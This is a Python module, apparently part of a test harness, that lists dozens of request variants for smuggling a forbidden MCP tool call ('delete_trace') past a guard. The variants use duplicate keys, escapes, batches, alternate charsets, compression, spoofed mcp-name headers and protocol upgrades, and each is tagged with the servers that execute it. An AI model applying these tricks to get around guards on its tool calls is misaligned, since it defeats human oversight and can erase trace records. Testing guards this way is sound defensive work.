"""In: the message of a tool call that is forbidden. Out: ways to send it so that a guard may read something else than a server.

ATTACKS and, for 2026-07-28, MODERN: name → (what it makes of a message, the servers that execute it when nothing stands
before them, by their kinds in harness.py).
"""

import collections
import gzip
import json
import zlib

Request = collections.namedtuple("Request", "method body headers")
OLD_SSE = frozenset({"ts1-sse", "python2-sse", "python1-sse"})
EVERY = frozenset({"ts1", "ts2", "python2", "python1"}) | OLD_SSE
BATCHES = frozenset({"ts1", "ts2"})
NODE = BATCHES | {"ts1-sse"}
PYTHON = EVERY - NODE
CHARSETS = frozenset({"ts1", "ts1-sse", "python1"})  # python1 finds out by itself
NOBODY = frozenset()
ATTACKS = {}


def attack(name, *executed_by):
    """Names a trick and says which servers fall for it."""

    def add(make):
        ATTACKS[name] = (make, frozenset().union(*executed_by))
        return make

    return add


def text(name, executed_by, change):
    """A trick that changes only the JSON text."""
    attack(name, executed_by)(lambda message: post(change(message)))


def headers(name, executed_by, **sent):
    """A trick that changes only headers."""
    attack(name, executed_by)(lambda message: post(plain(message), **sent))


def post(body, **sent):
    return Request("POST", body.encode() if isinstance(body, str) else body, {"content-type": "application/json"} | sent)


def plain(message):
    return json.dumps(message)


def arguments(message):
    return json.dumps(message["params"]["arguments"])


def envelope(message, params, before="", after=""):
    return f'{{"jsonrpc":"2.0","id":{message["id"]},{before}"method":"tools/call","params":{params}{after}}}'


def named(message, keys):
    """The call with these keys in place of its name."""
    return envelope(message, f'{{{keys},"arguments":{arguments(message)}}}')


def padded(message, pad):
    """The call with something beside it that no server looks at."""
    return named(message, f'"_meta":{{"pad":{pad}}},"name":"delete_trace"')


def harmless(message):
    """What the guard shall see: the same call of a tool that everybody may use."""
    return message | {"params": {**message["params"], "name": "count"}}


text("as it is", EVERY, plain)
text("white space around", EVERY, lambda m: f"\r\n\t {plain(m)} \n\n")
text("indented", EVERY, lambda m: json.dumps(m, indent=8))

# Arrays: JSON-RPC batches were part of 2025-03-26.
text("batch", BATCHES, lambda m: json.dumps([m]))
text("batch behind a harmless call", BATCHES, lambda m: json.dumps([harmless(m) | {"id": 90001}, m]))
text("batch behind a notification", BATCHES, lambda m: json.dumps([{"jsonrpc": "2.0", "method": "notifications/peers"}, m]))
text("array in an array", NOBODY, lambda m: json.dumps([[m]]))
text("empty array, then the call", NOBODY, lambda m: "[]" + plain(m))

# Duplicate keys: the last one counts for all four servers.
text("name twice", EVERY, lambda m: named(m, '"name":"count","name":"delete_trace"'))
text("name twice, harmless last", NOBODY, lambda m: named(m, '"name":"delete_trace","name":"count"'))
text("name twice, once with an escape", EVERY, lambda m: named(m, '"name":"count","n\\u0061me":"delete_trace"'))
text("method twice", EVERY, lambda m: envelope(m, json.dumps(m["params"]), before='"method":"ping",'))
text("params twice", EVERY, lambda m: envelope(m, '{"name":"count"}', after=f',"params":{json.dumps(m["params"])}'))
text("arguments with a name", NOBODY, lambda m: plain(harmless(m)).replace('"key"', '"name":"delete_trace","key"'))
text("a prototype with a name", NOBODY, lambda m: named(m, '"__proto__":{"name":"delete_trace"}'))

# Escapes, in keys and in values.
text("escaped key", EVERY, lambda m: named(m, '"na\\u006de":"delete_trace"'))
text("escaped name", EVERY, lambda m: plain(m).replace('"delete_trace"', '"delete\\u005ftrace"'))
text("escaped method", EVERY, lambda m: plain(m).replace('"tools/call"', '"t\\u006fols\\/call"'))
text("escaped params key", EVERY, lambda m: plain(m).replace('"params"', '"\\u0070arams"'))

# Keys and names that look alike.
text("Method", NOBODY, lambda m: plain(m).replace('"method"', '"Method"'))
text("Params", NOBODY, lambda m: plain(m).replace('"params"', '"PARAMS"'))
text("Name", NOBODY, lambda m: plain(m).replace('"name"', '"Name"'))
text("name in capitals", NOBODY, lambda m: plain(m).replace("delete_trace", "DELETE_TRACE"))
text("name with a space", NOBODY, lambda m: plain(m).replace("delete_trace", "delete_trace "))
text("name with a zero", NOBODY, lambda m: plain(m).replace("delete_trace", "delete_trace\\u0000"))
text("name as a list", NOBODY, lambda m: plain(m).replace('"delete_trace"', '["delete_trace"]'))
text("method with a slash more", NOBODY, lambda m: plain(m).replace("tools/call", "tools//call"))
text("other jsonrpc", NOBODY, lambda m: plain(m).replace('"2.0"', '"1.0"'))
text("without an id", NOBODY, lambda m: json.dumps({key: value for key, value in m.items() if key != "id"}))
text("id null", NOBODY, lambda m: json.dumps(m | {"id": None}))
text("id as text", EVERY, lambda m: json.dumps(m | {"id": "peers"}))

# JSON that one reader takes and another does not.
text("two documents", NOBODY, lambda m: plain(harmless(m)) + plain(m))
text("two lines", NOBODY, lambda m: plain(harmless(m)) + "\n" + plain(m))
text("trailing comma", NOBODY, lambda m: plain(m)[:-1] + ",}")
text("comment", NOBODY, lambda m: "/* */" + plain(m))
text("not a number", PYTHON, lambda m: padded(m, "NaN"))
text("lone surrogate", NODE | {"python1"}, lambda m: padded(m, '"\\ud800"'))
text("deep", EVERY, lambda m: padded(m, "[" * 150 + "]" * 150))
text("deeper", NODE, lambda m: padded(m, "[" * 600 + "]" * 600))
text("large", EVERY, lambda m: padded(m, '"' + "x" * 3_000_000 + '"'))
text("many keys", EVERY, lambda m: padded(m, json.dumps({f"k{n}": n for n in range(20_000)})))
MANY = "".join(f'"k{n}":{n},' for n in range(20_000))
text("many keys beside", PYTHON, lambda m: envelope(m, json.dumps(m["params"]), before=MANY))
text("bytes that are no UTF-8", NODE, lambda m: padded(m, '"BYTES"').encode().replace(b"BYTES", b"\xff\xc0\xae"))

# Bytes that are another text in another character set.
text("byte order mark", NODE | {"python1"}, lambda m: b"\xef\xbb\xbf" + plain(m).encode())
text("UTF-16 unannounced", {"python1"}, lambda m: plain(m).encode("utf-16le"))
text("UTF-32 unannounced", {"python1"}, lambda m: plain(m).encode("utf-32be"))


def charset(name, codec, executed_by):
    attack(f"charset {name}", executed_by)(
        lambda m: post(plain(m).encode(codec), **{"content-type": f"application/json; charset={name}"})
    )


charset("utf-8", "utf-8", EVERY)
charset("utf-16le", "utf-16le", CHARSETS)
charset("utf-16", "utf-16", CHARSETS)
charset("utf-16be", "utf-16be", CHARSETS)
charset("utf-32le", "utf-32le", CHARSETS)
charset("utf-7", "utf-8", EVERY)
charset("latin1", "latin-1", EVERY - {"ts1"})


@attack("two charsets", {"python1", "ts1-sse"})
def two_charsets(message):
    sent = {"content-type": "application/json; charset=utf-8; charset=utf-16le"}
    return post(plain(message).encode("utf-16le"), **sent)


# Packed bodies.
def encoding(name, pack, executed_by):
    attack(f"content-encoding {name}", executed_by)(
        lambda m: post(pack(plain(m).encode()), **{"content-encoding": name})
    )


encoding("gzip", gzip.compress, {"ts1"})
encoding("x-gzip", gzip.compress, NOBODY)
encoding("GZIP", gzip.compress, {"ts1"})
encoding("deflate", zlib.compress, {"ts1"})
encoding("gzip, gzip", lambda body: gzip.compress(gzip.compress(body)), NOBODY)
encoding("identity", bytes, EVERY)
encoding("utf-8", bytes, EVERY - {"ts1"})

# Headers that say something else than the body.
headers("spoofed mcp-method", EVERY, **{"mcp-method": "tools/list"})
headers("spoofed mcp-name", EVERY, **{"mcp-method": "tools/call", "mcp-name": "count"})
headers("other method in a header", EVERY, **{"x-http-method-override": "GET", "x-http-method": "GET"})
for other in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "text/json", ""):
    headers(f"content type {other or '(none)'}", NOBODY, **{"content-type": other})
headers("content type of a problem", NOBODY, **{"content-type": "application/problem+json"})
headers("content type that starts like JSON", {"python2-sse", "python1-sse"}, **{"content-type": "application/jsonl"})
headers("content type in capitals", NODE | {"python2-sse", "python1-sse"}, **{"content-type": "Application/JSON"})

# Other methods, and a request that becomes something else.
for method in ("GET", "PUT", "PATCH", "DELETE", "QUERY", "OPTIONS"):
    attack(f"{method} with a body", NOBODY)(lambda m, method=method: post(plain(m))._replace(method=method))


@attack("websocket", NOBODY)
def websocket(message):
    sent = {
        "connection": "upgrade",
        "upgrade": "websocket",
        "sec-websocket-version": "13",
        "sec-websocket-key": "AAAAAAAAAAAAAAAAAAAAAA==",
        "sec-websocket-protocol": "mcp",
    }
    frame = bytes([0x81, 0xFE]) + len(plain(message)).to_bytes(2, "big") + bytes(4) + plain(message).encode()
    return Request("GET", frame, sent)


@attack("upgrade to h2c", EVERY)
def h2c(message):
    return post(plain(message), connection="upgrade, http2-settings", upgrade="h2c", **{"http2-settings": "AAMAAABkAAQAAP__"})


# 2026-07-28: the headers repeat what the body says, and servers compare. An empty value leaves the header away.
MODERN = {}
BOTH = frozenset({"ts2", "python2"})


def modern(name, executed_by, change=plain, **sent):
    MODERN[name] = (lambda message: post(change(message), **sent), frozenset(executed_by))


def with_version(message, version):
    return plain(message).replace('"2026-07-28"', json.dumps(version))


def without_meta(message):
    return json.dumps(message | {"params": {key: value for key, value in message["params"].items() if key != "_meta"}})


def name_twice(message):
    return plain(message).replace('"name": "delete_trace"', '"name":"count","name":"delete_trace"')


modern("as it is", BOTH)
modern("mcp-name of a harmless tool", NOBODY, **{"mcp-name": "count"})
modern("mcp-method of a list", NOBODY, **{"mcp-method": "tools/list"})
modern("mcp-method of a list, no mcp-name", NOBODY, **{"mcp-method": "tools/list", "mcp-name": ""})
modern("no mcp-name", NOBODY, **{"mcp-name": ""})
modern("no mcp-method", NOBODY, **{"mcp-method": ""})
modern("mcp-name twice", NOBODY, **{"mcp-name": ["count", "delete_trace"]})
modern("mcp-name twice, harmless last", NOBODY, **{"mcp-name": ["delete_trace", "count"]})
modern("mcp-name in base64", BOTH, **{"mcp-name": "=?base64?ZGVsZXRlX3RyYWNl?="})
modern("mcp-name in capitals", NOBODY, **{"mcp-name": "DELETE_TRACE"})
modern("version only in the body", NOBODY, **{"mcp-protocol-version": ""})
modern("older version in the header", NOBODY, **{"mcp-protocol-version": "2025-11-25"})
modern("version twice", NOBODY, **{"mcp-protocol-version": ["2025-11-25", "2026-07-28"]})
modern("version in the header only", NOBODY, without_meta)
modern("older version in the body", NOBODY, lambda m: with_version(m, "2025-11-25"))
modern("session of nobody", BOTH, **{"mcp-session-id": "0123456789abcdef"})
modern("batch", NOBODY, lambda m: json.dumps([m]))
modern("name twice", BOTH, name_twice)
modern("name twice, header of the first", NOBODY, name_twice, **{"mcp-name": "count"})
modern("escaped name", BOTH, lambda m: plain(m).replace('"delete_trace"', '"delete\\u005ftrace"'))
modern("escaped key", BOTH, lambda m: plain(m).replace('"name": "delete_trace"', '"na\\u006de":"delete_trace"'))
modern("method twice", BOTH, lambda m: plain(m).replace('"method"', '"method":"tools/list","method"'))
modern("gzip", NOBODY, lambda m: gzip.compress(plain(m).encode()), **{"content-encoding": "gzip"})
UTF_16 = {"content-type": "application/json; charset=utf-16le"}
modern("charset utf-16le", {"python2"}, lambda m: plain(m).encode("utf-16le"), **UTF_16)
modern("byte order mark", BOTH, lambda m: b"\xef\xbb\xbf" + plain(m).encode())
modern("UTF-16 unannounced", {"python2"}, lambda m: plain(m).encode("utf-16le"))
modern("large", BOTH, lambda m: plain(m).replace('"_meta": {', '"_meta": {"pad":"' + "x" * 3_000_000 + '",'))
